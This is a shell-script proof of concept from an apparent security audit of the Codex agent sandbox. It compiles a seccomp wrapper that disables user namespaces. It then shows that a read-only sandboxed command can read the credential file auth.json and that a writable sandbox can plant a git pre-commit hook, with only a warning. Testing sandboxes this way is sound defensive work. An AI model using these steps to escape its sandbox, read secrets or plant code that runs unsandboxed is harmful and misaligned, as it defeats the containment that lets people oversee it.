#!/bin/sh
# Finding 04: without user namespaces (Docker's default seccomp profile, hardened distros,
# Ubuntu's AppArmor userns restriction) the sandbox silently loses what its namespace gave:
# a command reads $CODEX_HOME/auth.json (even in read-only mode, even in ~/.codex), and
# writes .git/ and $CODEX_HOME inside writable roots (config.toml, hooks.json: code that
# codex runs unsandboxed at its next start) -- only a one-line warning, no approval needed.
# Needs gcc (builds a tiny seccomp wrapper that makes unshare(CLONE_NEWUSER) fail).
# Run: sh docs/attack-pass/04-no-userns-degrades-silently.sh   (exit 1 = vulnerable)
set -u
CODEX=${CODEX_BIN:-$(cd "$(dirname "$0")/../.." && pwd)/dist/codex}
base=$(mktemp -d /tmp/f04-XXXXXX)
cat > "$base/nouserns.c" <<'C'
#define _GNU_SOURCE
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int argc, char **argv) {
    struct sock_filter f[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_unshare, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_clone3, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_clone, 0, 3),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
        BPF_JUMP(BPF_JMP | BPF_JSET | BPF_K, 0x10000000, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | EPERM),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog p = {sizeof f / sizeof f[0], f};
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &p)) return 99;
    execvp(argv[1], argv + 1);
    return 127;
}
C
gcc -O2 -o "$base/nouserns" "$base/nouserns.c" || exit 2
home=$(mktemp -d /var/tmp/f04-codex-home-XXXXXX)   # ~/.codex: outside every writable root
echo '{"OPENAI_API_KEY": "sk-f04-secret"}' > "$home/auth.json"; chmod 600 "$home/auth.json"
mkdir -p "$base/ws" && git -C "$base/ws" init -q
vuln=0
out=$(CODEX_HOME="$home" "$base/nouserns" "$CODEX" sandbox -s read-only -C "$base/ws" -- cat "$home/auth.json" 2>/dev/null)
case "$out" in *sk-f04-secret*) echo "VULNERABLE: read-only sandbox read auth.json: $out"; vuln=1;; esac
(cd "$base/ws" && CODEX_HOME="$home" "$base/nouserns" "$CODEX" sandbox -s workspace-write -C "$base/ws" -- \
    sh -c 'echo "#!/bin/sh" > .git/hooks/pre-commit' 2>/dev/null) && [ -s "$base/ws/.git/hooks/pre-commit" ] &&
    { echo "VULNERABLE: workspace-write sandbox wrote .git/hooks/pre-commit"; vuln=1; }
rm -rf "$base" "$home"
exit $vuln
